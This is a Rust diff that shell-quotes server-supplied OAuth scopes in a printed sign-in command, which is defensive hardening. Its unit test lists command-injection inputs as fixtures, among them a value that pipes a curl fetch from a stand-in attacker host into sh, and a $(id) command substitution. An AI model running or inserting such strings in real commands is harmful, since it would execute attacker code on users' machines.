@@ -47,7 +47,7 @@ impl Account {
     /// Says how to sign in, with these further scopes.
     pub(in crate::upstream) fn how_to_sign_in(&self, scopes: &[String]) -> String {
         let Some(command) = &self.0.command else { return "sign in to it".to_owned() };
-        let scopes: String = scopes.iter().map(|scope| format!(" --scope {scope}")).collect();
+        let scopes: String = scopes.iter().map(|scope| scope_option(scope)).collect();
         format!("run `{command} {}{scopes}`", self.0.server)
     }
 
@@ -139,4 +139,37 @@ impl CredentialStore for AccountStore {
 
 fn store_error(error: &CredentialsError) -> AuthError {
     AuthError::CredentialStoreError(error.to_string())
+}
+
+/// Returns the option for a scope as one word of a POSIX shell: the server chooses the scope, and somebody may paste the command.
+fn scope_option(scope: &str) -> String {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_./:@%+,-".contains(&byte);
+    let word = if scope.bytes().all(is_plain) {
+        scope.to_owned()
+    } else {
+        format!("'{}'", scope.replace('\'', r"'\''"))
+    };
+    // Otherwise it would be another option.
+    let separator = if scope.starts_with('-') { "=" } else { " " };
+    format!(" --scope{separator}{word}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::scope_option;
+
+    #[test]
+    fn writes_a_scope_as_one_word_of_a_shell() {
+        for (scope, expected) in [
+            ("notes:write", " --scope notes:write"),
+            ("https://notes.example.org/write.all", " --scope https://notes.example.org/write.all"),
+            ("a;curl${IFS}evil.example|sh", " --scope 'a;curl${IFS}evil.example|sh'"),
+            ("$(id)`id`", " --scope '$(id)`id`'"),
+            ("it's", r" --scope 'it'\''s'"),
+            ("!!", " --scope '!!'"),
+            ("--timeout", " --scope=--timeout"),
+        ] {
+            assert_eq!(scope_option(scope), expected);
+        }
+    }
 }
